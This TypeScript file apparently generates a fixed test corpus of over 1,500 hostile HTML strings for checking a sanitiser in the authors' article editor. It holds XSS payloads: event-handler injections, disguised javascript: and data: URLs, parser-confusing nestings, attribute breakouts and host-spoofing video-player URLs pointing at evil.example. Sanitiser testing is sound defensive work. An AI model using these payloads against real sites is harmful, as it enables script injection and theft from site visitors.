// HTML that tries to run a script (`ran()`) or to fetch from elsewhere (evil.example), made of parts:
// tags and events, addresses and their disguises, nestings that browsers and sanitisers read
// differently, and the markup that our own editor writes, abused.

const RUN = "ran()";
const FAR = "https://evil.example/x";

const TAGS =
  "a b p h2 div span table td tr li ul img svg math body html iframe object embed video audio source track input button select textarea form details marquee meter style link meta base template noscript custom-tag figure figcaption sup ol blockquote dialog animate image".split(
    " ",
  );
const EVENTS =
  "onclick onload onerror onfocus onmouseover ontoggle onanimationstart onpointerenter onbegin onstart onscroll onbeforeinput".split(
    " ",
  );

const events = TAGS.flatMap((tag, row) =>
  EVENTS.map((event, column) => {
    const quote = ["", '"', "'"][(row + column) % 3] ?? "";
    const gap = [" ", "/", "\n", "\t", "\u000c"][(row * 2 + column) % 5] ?? " ";
    const more = tag === "img" || tag === "source" ? "src=x " : "tabindex=0 autofocus open ";
    return `<${tag}${gap}${more}${event}=${quote}${RUN}${quote}>文</${tag}>`;
  }),
);

const PLACES: readonly ((address: string) => string)[] = [
  (x) => `<a href="${x}">文</a>`,
  (x) => `<a href='${x}' target=_blank rel=opener>文</a>`,
  (x) => `<a href=${x}>文</a>`,
  (x) => `<svg><a xlink:href="${x}"><text>文</text></a></svg>`,
  (x) => `<math><mi href="${x}">文</mi></math>`,
  (x) => `<area href="${x}">`,
  (x) => `<img src="${x}">`,
  (x) => `<img srcset="${x} 1x" src="/demo/a.svg">`,
  (x) => `<image href="${x}">`,
  (x) => `<iframe src="${x}"></iframe>`,
  (x) => `<object data="${x}"></object>`,
  (x) => `<embed src="${x}">`,
  (x) => `<video src="${x}" poster="${x}" autoplay></video>`,
  (x) => `<form action="${x}"><input type=image src="${x}" formaction="${x}"></form>`,
  (x) => `<base href="${x}">`,
  (x) => `<link rel="stylesheet prefetch" href="${x}">`,
  (x) => `<meta http-equiv="refresh" content="0;url=${x}">`,
  (x) => `<table background="${x}"><tr><td background="${x}">文</td></tr></table>`,
  (x) => `<p style="background:url(${x})">文</p>`,
  (x) => `<p style="text-align:center;background-image:url('${x}')">文</p>`,
  (x) => `<style>@import "${x}"; p{background:url(${x})}</style>`,
  (x) => `<blockquote cite="${x}">文</blockquote>`,
  (x) => `<figure data-video="${x}"><a href="${x}">文</a></figure>`,
  (x) => `<svg><use href="${x}#a"/></svg>`,
];

const entities = (text: string, end = ";") =>
  [...text].map((letter) => `&#${letter.charCodeAt(0)}${end}`).join("");

const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\n\rscript:${RUN}`,
  `java&#x09;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `${entities("javascript:")}${RUN}`,
  `${entities("javascript", "")}:${RUN}`,
  `javascript://x/%0a${RUN}`,
  `java\u00adscript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  FAR,
  "//evil.example/x",
  "/\\evil.example/x",
  "\\\\evil.example\\x",
  "https:evil.example/x",
];

const addresses = PLACES.flatMap((place) => ADDRESSES.map((address) => place(address)));

const PAYLOADS: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `<svg onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href=javascript:${RUN}>文</a>`,
  `<img src=${FAR}>`,
  `<style>@import '${FAR}'</style>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>文`,
  `<video><source onerror=${RUN}></video>`,
];

/** Markup that has misled parsers. */
const WRAPPERS: readonly ((inside: string) => string)[] = [
  (x) => `<svg><style>${x}</style></svg>`,
  (x) => `<svg></p><style><a id="</style>${x}">`,
  (x) => `<svg><foreignobject><p>${x}</p></foreignobject></svg>`,
  (x) => `<svg><desc><title>${x}</title></desc></svg>`,
  (x) => `<math><mtext><table><mglyph><style>${x}</style></mglyph></table></mtext></math>`,
  (x) => `<math><mtext><mglyph><style><!--</style><img title="--&gt;${x}">`,
  (x) => `<math><annotation-xml encoding="text/html">${x}</annotation-xml></math>`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
  (x) => `<noscript><p title="</noscript>${x}"></noscript>`,
  (x) => `<textarea><p title="</textarea>${x}"></textarea>`,
  (x) => `<title><p title='</title>${x}'></title>`,
  (x) => `<template>${x}</template>`,
  (x) => `<template><template>${x}</template>`,
  (x) => `<select><option>${x}</select>${x}`,
  (x) => `<table><tr>${x}<td>文</td></tr></table>`,
  (x) => `<table><caption>${x}<table><colgroup>${x}`,
  (x) => `<a><table><a>${x}</table></a>`,
  (x) => `<!--${x}-->`,
  (x) => `<!-->${x}-->`,
  (x) => `<!--->${x}--!>${x}`,
  (x) => `<![CDATA[${x}]]>`,
  (x) => `<svg><![CDATA[><p>${x}]]></svg>`,
  (x) => `<?xml version="1.0"?>${x}<?${x}?>`,
  (x) => `<!DOCTYPE x [<!ENTITY y "${x}">]>&y;`,
  (x) => `<xmp><p title="</xmp>${x}"></xmp>`,
  (x) => `<plaintext>${x}`,
  (x) => `<iframe><p title="</iframe>${x}"></iframe>`,
  (x) => `<noembed>${x}</noembed><noframes>${x}</noframes>`,
  (x) => `<frameset>${x}</frameset>`,
  (x) => `<scr<script>ipt>${x}</scr</script>ipt>`,
  (x) => `<<a>${x}<</a>`,
  (x) => `<p title="${x.replaceAll('"', "&quot;")}">文</p>`,
  (x) => `<p title='">${x}'>文</p>`,
  (x) => x.replaceAll("<", "&lt;"),
  (x) => x.replaceAll("<", "<\u0000"),
  (x) => x.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (x) => `${"<b>".repeat(300)}${x}`,
  (x) => `<h2>${x}</h2><h2 id="x" class="y" name="${x.replaceAll('"', "")}">文</h2>`,
  (x) => `<sup data-note="1">${x}</sup><ol data-notes="1"><li>${x}</li></ol>`,
  (x) => `<p>甲<sup data-note="1">1</sup></p><ol data-notes="1"><li>注</li></ol>${x}`,
  (x) => `<figure data-video="https://v.qq.com/txp/iframe/player.html?vid=x">${x}</figure>`,
  (x) =>
    `<table><thead><tr><th>${x}</th><th>乙</th></tr></thead><tbody><tr><td>${x}</td><td>丁</td></tr></tbody></table>`,
];

const nested = WRAPPERS.flatMap((wrap) => PAYLOADS.map((payload) => wrap(payload)));

/** Values for attributes of our own that are put into the page again when an article is dressed. */
const VALUES: readonly string[] = [
  `"><script>${RUN}</script>`,
  `1" onclick="${RUN}`,
  `https://player.bilibili.com.evil.example/player.html?bvid=BV1xx411c7mD`,
  `https://player.bilibili.com@evil.example/player.html?bvid=BV1xx411c7mD`,
  `https://evil.example/#https://player.bilibili.com/player.html?bvid=BV1xx411c7mD`,
  `https://player.bilibili.com/player.html?bvid=BV1xx411c7mD&quot; onload=&quot;${RUN}`,
  `https://player.bilibili.com/player.html?bvid=BV1xx411c7mD#${RUN}`,
  `https://v.qq.com/txp/iframe/player.html?vid=${RUN}`,
  `https://player.youku.com/embed/../../evil`,
  `javascript:${RUN}//https://tv.cctv.com/v/v1/VIDEabcdefghijkl.html`,
  "1e3",
  "-1",
  "0",
  "99999999999",
  "$1$&$`",
];

const own = VALUES.flatMap((value) => {
  const quoted = value.replaceAll('"', "&quot;");
  return [
    `<figure data-video="${value}"><a href="${FAR}">文</a></figure>`,
    `<figure data-video="${quoted}"><a href="/x" rel="noopener nofollow">${quoted}</a></figure>`,
    `<sup data-note="${value}">1</sup><ol data-notes="${quoted}"><li>${quoted}</li></ol>`,
    `<p style="text-indent:2em;${value}">文</p>`,
    `<p style="text-indent:${quoted};text-align:${quoted}">文</p>`,
    `<img src="/profile/upload/${quoted}" alt="${quoted}" width="${value}" height="${quoted}">`,
    `<figure><img src="/demo/a.svg" alt='${value.replaceAll("'", "")}'><figcaption>${value}</figcaption></figure>`,
    `<td colspan="${value}" rowspan="${quoted}" scope="${quoted}">文</td>`,
    `<h2>${quoted}</h2><table><caption>${quoted}</caption><thead><tr><th>${quoted}</th><th>${quoted}</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>`,
  ];
});

/** More than a thousand and a half, always the same ones in the same order. */
export const HOSTILE_HTML: readonly string[] = [
  ...new Set([...events, ...addresses, ...nested, ...own]),
];
